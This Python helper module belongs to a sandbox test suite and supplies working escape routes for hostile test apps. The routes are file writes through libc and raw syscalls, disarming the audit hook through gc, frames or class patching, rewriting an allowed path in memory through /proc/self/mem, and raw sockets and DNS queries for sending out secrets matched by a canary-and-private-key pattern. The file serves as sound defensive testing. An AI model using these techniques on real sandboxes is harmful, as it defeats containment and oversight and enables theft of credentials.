"""Ways around the sandbox that the hostile test apps share (copied into each app's package
by the suite's conftest, so every app stays one self-contained package).

Everything here goes below Python's audit hook on purpose: libc through ctypes, raw system
calls, file-descriptor-relative calls, and switching the worker's hook off from inside. Every
trick is bounded (counts, seconds), so a sandbox that fails cannot wedge the machine.
"""

from __future__ import annotations

import contextlib
import ctypes
import gc
import os
import re
import struct
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

LIBC = ctypes.CDLL(None, use_errno=True)
# fork must keep the interpreter lock across the call (a plain CDLL call releases it, and a
# child would then wait for it forever)
LIBC_HOLDING_GIL = ctypes.PyDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
LIBC.ptrace.restype = ctypes.c_long
LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
LIBC.pwrite.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_long]
LIBC.pwrite.restype = ctypes.c_ssize_t

# x86-64 system call numbers
SYS_OPENAT = 257
SYS_PRLIMIT64 = 302
SYS_PROCESS_VM_WRITEV = 311
AT_FDCWD = -100
PR_SET_NAME = 15

# What a secret looks like to a thief: the suite's canaries and any PEM private key.
SECRET = re.compile(rb"tweeling-canary-[0-9a-f]{16}|-----BEGIN [A-Z ]*PRIVATE KEY-----[^-]+")


class Journal:
    """What each route did, for the test's failure messages (never for its verdicts)."""

    def __init__(self) -> None:
        self.lines: list[str] = []
        self.loot: set[str] = set()

    def attempt(self, route: str, action: Callable[[], Any]) -> Any:
        try:
            result = action()
        except BaseException as exc:  # a refusal is an answer too
            self.lines.append(f"{route}: refused: {type(exc).__name__}: {exc}"[:400])
            return None
        self.lines.append(f"{route}: done: {result!r}"[:400])
        return result

    def grab(self, data: bytes) -> None:
        for found in SECRET.findall(data):
            self.loot.add(found.decode("ascii", "replace"))

    def text(self) -> str:
        return "\n".join([*sorted(self.loot), *self.lines])[:200_000]


def check(result: int, what: str) -> int:
    if result < 0:
        err = ctypes.get_errno()
        raise OSError(err, f"{what}: {os.strerror(err)}")
    return result


def name_process(name: str) -> None:
    """Set this process's comm (what /proc/PID/comm shows), so the test can find it."""
    LIBC.prctl(PR_SET_NAME, ctypes.c_char_p(name.encode()[:15]), 0, 0, 0)


# --- files, below the audit hook -------------------------------------------------------


def libc_write(path: str, data: bytes, flags: int = os.O_WRONLY | os.O_CREAT | os.O_TRUNC) -> int:
    fd = check(LIBC.open(path.encode(), flags, 0o644), f"libc open {path}")
    try:
        return check(LIBC.write(fd, data, len(data)), "libc write")
    finally:
        LIBC.close(fd)


def syscall_write(path: str, data: bytes) -> int:
    flags = os.O_WRONLY | os.O_CREAT | os.O_TRUNC
    fd = check(
        LIBC.syscall(
            ctypes.c_long(SYS_OPENAT),
            ctypes.c_long(AT_FDCWD),
            ctypes.c_char_p(path.encode()),
            ctypes.c_long(flags),
            ctypes.c_long(0o644),
        ),
        f"openat {path}",
    )
    try:
        return check(LIBC.write(int(fd), data, len(data)), "write")
    finally:
        LIBC.close(int(fd))


def libc_read(path: str, limit: int = 4 << 20) -> bytes:
    fd = check(LIBC.open(path.encode(), os.O_RDONLY, 0), f"libc open {path}")
    try:
        buffer = ctypes.create_string_buffer(limit)
        size = check(LIBC.read(fd, buffer, limit), "libc read")
        return buffer.raw[:size]
    finally:
        LIBC.close(fd)


def dir_fd_write(folder: str, name: str, data: bytes) -> int:
    """Open the folder for reading (allowed), then create a file relative to it."""
    folder_fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    try:
        fd = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=folder_fd)
        try:
            return os.write(fd, data)
        finally:
            os.close(fd)
    finally:
        os.close(folder_fd)


# --- the worker's audit hook, switched off from inside -----------------------------------


def hooks() -> list[Any]:
    """The worker's hook objects, found among the live objects."""
    return [o for o in gc.get_objects() if type(o).__name__ == "_Sandbox"]


def frames_with(name: str) -> Iterator[dict[str, Any]]:
    for frame in sys._current_frames().values():
        walker: Any = frame
        while walker is not None:
            if name in walker.f_locals:
                yield walker.f_locals
            walker = walker.f_back


def _worker_module() -> Any:
    for name in ("__main__", "tweeling.apps.worker"):
        module = sys.modules.get(name)
        if module is not None and hasattr(module, "_Sandbox"):
            return module
    raise LookupError("no worker module with a _Sandbox class")


@contextlib.contextmanager
def disarmed(how: str) -> Iterator[str]:
    """The hook switched off by ``how`` (gc, frames, patch-class) for the block's length."""
    if how == "gc":
        found = hooks()
        for hook in found:
            hook.armed = False
        try:
            yield f"{len(found)} hook(s) disarmed through gc"
        finally:
            for hook in found:
                hook.armed = True
    elif how == "frames":
        found = [f["sandbox"] for f in frames_with("sandbox")]
        for hook in found:
            hook.armed = False
        try:
            yield f"{len(found)} hook(s) disarmed through frame locals"
        finally:
            for hook in found:
                hook.armed = True
    elif how == "patch-class":
        cls = _worker_module()._Sandbox
        saved = cls._inside, cls._refuse
        cls._inside = lambda self, path: True
        cls._refuse = lambda self, kind, detail: None
        try:
            yield "the hook's class patched to allow everything"
        finally:
            cls._inside, cls._refuse = saved
    else:
        raise ValueError(how)


def _overwrite(address: int, data: bytes, via_proc_mem: bool) -> None:
    if not via_proc_mem:
        ctypes.memmove(address, data, len(data))
        return
    fd = check(LIBC.open(b"/proc/self/mem", os.O_RDWR, 0), "open /proc/self/mem")
    try:
        check(LIBC.pwrite(fd, data, len(data), address), "pwrite /proc/self/mem")
    finally:
        LIBC.close(fd)


def widen_workdir(wanted: str, filler: str, via_proc_mem: bool) -> str:
    """Rewrite, in place, the hook's (immutable) work-dir string so that a folder outside
    passes its check: ``wanted``/filler… when it fits, else /filler… at the root. The
    new allowed folder is returned; the caller makes it and writes into it."""
    hook = hooks()[0]
    current: str = hook.workdir
    size = len(current)
    if size >= len(wanted) + 2:
        allowed = (wanted + "/" + filler + "z" * size)[:size]
    else:
        allowed = ("/" + filler + "z" * size)[:size]
    if not current.isascii():
        raise ValueError("the work dir is not ASCII")
    address = id(current) + sys.getsizeof(current) - size - 1  # a compact ASCII string's data
    _overwrite(address, allowed.encode(), via_proc_mem)
    return allowed


# --- processes ---------------------------------------------------------------------------


def fork() -> int:
    """fork(2) straight from libc: no audit event, no Python bookkeeping."""
    return check(LIBC_HOLDING_GIL.fork(), "fork")


def linger(name: str, seconds: float) -> None:
    """In a child: take a findable name, wait, leave (bounded)."""
    name_process(name)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        time.sleep(0.2)
    os._exit(0)


# --- sockets, below the audit hook -------------------------------------------------------


def _sockaddr_in(host: str, port: int) -> bytes:
    """struct sockaddr_in: the family in host order, port and address in network order."""
    return struct.pack("=H", 2) + struct.pack("!H4s8x", port, bytes(map(int, host.split("."))))


def libc_connect(host: str, port: int, payload: bytes) -> int:
    fd = check(LIBC.socket(2, 1, 0), "socket")
    try:
        address = _sockaddr_in(host, port)
        check(LIBC.connect(fd, address, len(address)), f"connect {host}:{port}")
        return check(LIBC.send(fd, payload, len(payload), 0), "send")
    finally:
        LIBC.close(fd)


def libc_sendto(host: str, port: int, payload: bytes) -> int:
    fd = check(LIBC.socket(2, 2, 0), "socket")
    try:
        address = _sockaddr_in(host, port)
        return check(
            LIBC.sendto(fd, payload, len(payload), 0, address, len(address)), f"sendto {port}"
        )
    finally:
        LIBC.close(fd)


def libc_unix_connect(path: bytes, payload: bytes) -> int:
    fd = check(LIBC.socket(1, 1, 0), "socket")
    try:
        address = struct.pack("=H", 1) + path
        check(LIBC.connect(fd, address, len(address)), f"connect {path!r}")
        return check(LIBC.send(fd, payload, len(payload), 0), "send")
    finally:
        LIBC.close(fd)


def dns_query(name: str) -> bytes:
    """A DNS query for ``name`` (type A), as a resolver would send it."""
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", 0x5457, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!HH", 1, 1)
